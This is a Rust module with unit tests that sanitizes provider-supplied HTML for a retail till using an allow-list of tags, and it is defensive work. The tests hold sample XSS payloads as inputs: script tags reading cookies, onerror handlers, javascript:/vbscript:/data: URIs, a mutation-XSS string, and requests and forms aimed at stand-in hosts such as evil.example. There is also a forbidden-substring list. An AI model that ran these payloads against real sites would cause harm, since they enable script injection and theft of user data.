//! Provider HTML made safe to show: the one place text that arrives as markup from outside (a provider's
//! message, a voucher's terms) is turned into markup the till may display. An explicit allow-list of
//! formatting tags survives, without a single attribute; everything that can run code, load something
//! remote or submit something (scripts, styles, event handlers, links, images, frames, objects, forms,
//! SVG and MathML) is dropped, and any URL scheme with it. The UI still renders provider text as text
//! (`tests/ui_renders_text.rs` keeps it so); this is for the day a screen needs the formatting.

use std::collections::{HashMap, HashSet};

use ammonia::{Builder, UrlRelative};

/// Formatting and structure only. No `a` (its text is kept, the link is not), no `img` (a remote image
/// is a fetch that tells a third party the till is looking), no `style` (CSS can fetch too).
const ALLOWED_TAGS: [&str; 21] = [
    "p", "br", "strong", "em", "b", "i", "ul", "ol", "li", "span", "div", "h1", "h2", "h3", "h4",
    "table", "thead", "tbody", "tr", "th", "td",
];

/// Dropped together with everything inside them: their content is code, a document of its own, or
/// widgets, never text meant for the cashier.
const DROPPED_WITH_CONTENT: [&str; 17] = [
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "noscript",
    "noembed", "noframes", "template", "svg", "math", "textarea", "select", "title",
];

/// Returns `html` reduced to the allowed formatting tags, with no attributes, no comments and no URLs.
/// Text is kept and escaped; malformed markup is parsed as a browser would, then re-serialised.
pub fn sanitize(html: &str) -> String {
    Builder::empty()
        .tags(ALLOWED_TAGS.into_iter().collect())
        .clean_content_tags(DROPPED_WITH_CONTENT.into_iter().collect())
        .generic_attributes(HashSet::new())
        .tag_attributes(HashMap::new())
        .tag_attribute_values(HashMap::new())
        .set_tag_attribute_values(HashMap::new())
        .allowed_classes(HashMap::new())
        .url_schemes(HashSet::new())
        .url_relative(UrlRelative::Deny)
        .link_rel(None)
        .strip_comments(true)
        .clean(html)
        .to_string()
}

/// Only the text of `html`: every tag dropped (with the content of the dangerous ones, as [`sanitize`]
/// does), entities decoded, runs of white space made one space. For a screen that shows provider
/// markup as plain words (the aCuotaz add-on next to an amount).
pub fn to_text(html: &str) -> String {
    let escaped = Builder::empty()
        .tags(HashSet::new())
        .clean_content_tags(DROPPED_WITH_CONTENT.into_iter().collect())
        .strip_comments(true)
        .clean(html)
        .to_string();
    let decoded = escaped
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&#39;", "'")
        .replace("&nbsp;", " ")
        .replace("&amp;", "&");
    decoded.split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::{sanitize, to_text};

    #[test]
    fn the_add_on_becomes_its_words_only() {
        let add_on = r#"<style>/* Apurata style*/ .x{background:url(https://evil/)}</style>
            <div id="pay-with-apurata" title="- Desde 0% de interés" tabindex="0" onclick="alert(1)">
            <span>Paga tu compra en partes, desde S/18.45 con</span>
            <a href="https://apurata.com/app/partners/acuotaz"><img src="https://static.apurata.com/x.svg" alt="aCuotaz"></a>
            <script>fetch('https://evil/')</script></div>"#;
        assert_eq!(
            to_text(add_on),
            "Paga tu compra en partes, desde S/18.45 con"
        );
        assert_eq!(to_text("a &amp; b &lt;i&gt;"), "a & b <i>");
    }

    /// Nothing in the output can run, fetch or navigate.
    fn assert_inert(output: &str) {
        let lower = output.to_ascii_lowercase();
        for forbidden in [
            "<script",
            "<style",
            "<iframe",
            "<object",
            "<embed",
            "<img",
            "<svg",
            "<a ",
            "<a>",
            "<form",
            "<link",
            "<meta",
            "javascript:",
            "data:",
            "http:",
            "https:",
            "onerror",
            "onload",
            "onclick",
            "@import",
            "src=",
            "href=",
            "style=",
        ] {
            assert!(
                !lower.contains(forbidden),
                "{forbidden} survived in {output}"
            );
        }
    }

    #[test]
    fn scripts_go_with_their_content() {
        let output = sanitize("<p>Hola</p><script>alert(document.cookie)</script>");
        assert_eq!(output, "<p>Hola</p>");
        assert_eq!(
            sanitize("<SCRIPT SRC=//evil.example/x.js></SCRIPT>ok"),
            "ok"
        );
    }

    #[test]
    fn event_handlers_are_removed_from_kept_tags() {
        let output = sanitize(r#"<p onclick="steal()" onmouseover=x>Pague aquí</p>"#);
        assert_eq!(output, "<p>Pague aquí</p>");
        assert_inert(&sanitize(r#"<span onerror="alert(1)">x</span>"#));
    }

    #[test]
    fn links_lose_the_link_and_keep_the_text() {
        let output = sanitize(r#"<a href="javascript:alert(1)">ver condiciones</a>"#);
        assert_eq!(output, "ver condiciones");
        let output = sanitize(r#"<a href="https://evil.example/?dni=14159265">aquí</a>"#);
        assert_eq!(output, "aquí");
    }

    #[test]
    fn images_never_fetch() {
        assert_eq!(sanitize(r#"<img src="http://tracker.example/p.gif">"#), "");
        assert_eq!(sanitize(r#"<img src=x onerror="alert(1)">texto"#), "texto");
        assert_inert(&sanitize(
            r#"<img src="data:image/png;base64,iVBORw0KGgo=">"#,
        ));
    }

    #[test]
    fn frames_objects_and_forms_are_dropped() {
        assert_eq!(
            sanitize(r#"<iframe src="https://evil.example"></iframe>"#),
            ""
        );
        assert_eq!(
            sanitize(r#"<object data="x.swf"><embed src="x.swf"></object>"#),
            ""
        );
        let form = sanitize(r#"<form action="https://evil.example"><input name=pin>Clave</form>"#);
        assert_eq!(form, "Clave");
        assert_inert(&form);
    }

    #[test]
    fn styles_cannot_import_or_paint() {
        assert_eq!(
            sanitize("<style>@import url(https://evil.example/x.css);</style>"),
            ""
        );
        let output = sanitize(r#"<div style="background:url(https://evil.example/p)">x</div>"#);
        assert_eq!(output, "<div>x</div>");
        assert_inert(&sanitize(
            r#"<link rel=stylesheet href="https://evil.example/x.css">"#,
        ));
    }

    #[test]
    fn svg_and_math_go_whole() {
        assert_eq!(
            sanitize(r#"<svg onload="alert(1)"><circle r=5 /></svg>"#),
            ""
        );
        assert_eq!(sanitize(r#"<svg><script>alert(1)</script></svg>ok"#), "ok");
        assert_inert(&sanitize(
            r#"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"#,
        ));
    }

    #[test]
    fn data_uris_and_other_schemes_are_gone() {
        for html in [
            r#"<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>"#,
            r#"<p><a href="vbscript:msgbox(1)">x</a></p>"#,
            r#"<span data-x="javascript:alert(1)">x</span>"#,
        ] {
            assert_inert(&sanitize(html));
        }
    }

    #[test]
    fn comments_and_mis_nesting_are_cleaned() {
        assert_eq!(
            sanitize("<p>a<!-- <script>x</script> -->b</p>"),
            "<p>ab</p>"
        );
        assert_eq!(sanitize("<b><i>x</b></i>"), "<b><i>x</i></b>");
    }

    #[test]
    fn benign_formatting_is_kept() {
        let html = "<h2>Condiciones</h2><p>Pague <strong>S/ 579.98</strong> en <em>tienda</em>.<br>\
                    Gracias.</p><ul><li>uno</li></ul><ol><li>dos</li></ol>\
                    <table><thead><tr><th>Cuota</th></tr></thead><tbody><tr><td>1</td></tr></tbody></table>";
        assert_eq!(sanitize(html), html);
        assert_eq!(
            sanitize("<div><span>a</span> <b>b</b> <i>c</i></div>"),
            "<div><span>a</span> <b>b</b> <i>c</i></div>"
        );
        assert_eq!(sanitize("1 < 2 & 3 > 2"), "1 &lt; 2 &amp; 3 &gt; 2");
    }

    #[test]
    fn classes_and_ids_are_not_kept() {
        assert_eq!(
            sanitize(r#"<p class="x" id="y" title="z">t</p>"#),
            "<p>t</p>"
        );
    }
}
